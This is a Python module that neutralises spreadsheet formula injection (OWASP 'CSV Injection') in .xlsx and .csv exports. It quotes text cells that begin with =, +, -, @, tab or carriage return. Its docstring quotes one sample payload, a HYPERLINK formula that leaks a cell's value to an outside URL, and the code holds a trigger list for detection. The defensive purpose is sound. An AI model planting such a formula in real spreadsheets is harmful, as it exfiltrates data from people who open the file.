"""Writing spreadsheets (.xlsx and .csv) that open as data, never as formulas.

Every export goes through here (a test scans the source for workbooks and CSV writers made
anywhere else). A text cell is written as text: a value that a spreadsheet program would read as
a formula or a command (it begins with =, +, -, @, a tab or a carriage return: OWASP's "CSV
Injection") is prefixed with a single quote, and in .xlsx every text cell is stored with the
string data type, so that a person named `=HYPERLINK("http://…?leak="&A1,"x")` or `=1+2` is
shown as that name and never evaluated. Numbers, dates and booleans stay what they are.

The people import reads such a cell back without the quote (`unneutralised`), so an exported
list imports again unchanged.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable

from openpyxl import Workbook

# What makes Excel, LibreOffice and Google Sheets start a formula or a DDE command.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def neutralised(value):
    """`value` as a spreadsheet shows it without evaluating it: text that begins like a formula
    gets a leading single quote; anything that is not text is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return QUOTE + value
    return value


def unneutralised(text: str) -> str:
    """The text a neutralised cell was made from (the quote this module added taken off)."""
    if text.startswith(QUOTE) and text[1:].startswith(FORMULA_TRIGGERS):
        return text[1:]
    return text


def _neutralise_workbook(workbook: Workbook) -> None:
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    cell.value = neutralised(cell.value)
                    cell.data_type = "s"  # text, whatever openpyxl guessed from the value


class SafeWorkbook(Workbook):
    """An openpyxl workbook whose every text cell is neutralised and typed as text when it is
    saved, however the cells were written."""

    def save(self, filename) -> None:
        _neutralise_workbook(self)
        super().save(filename)


def new_workbook() -> SafeWorkbook:
    """The workbook every .xlsx export starts from."""
    return SafeWorkbook()


def workbook_bytes(workbook: SafeWorkbook) -> bytes:
    """The .xlsx file of `workbook`, every text cell neutralised."""
    if not isinstance(workbook, SafeWorkbook):
        raise TypeError("exports start from evalapp.core.spreadsheets.new_workbook()")
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def csv_bytes(rows: Iterable[Iterable[object]], *, delimiter: str = ",") -> bytes:
    """A .csv file (UTF-8 with a byte order mark, which Excel needs to read Vietnamese) of
    `rows`: every text cell neutralised and quoted, numbers bare (OWASP)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, quoting=csv.QUOTE_NONNUMERIC,
                        lineterminator="\r\n")
    for row in rows:
        writer.writerow(["" if value is None else neutralised(value) for value in row])
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")
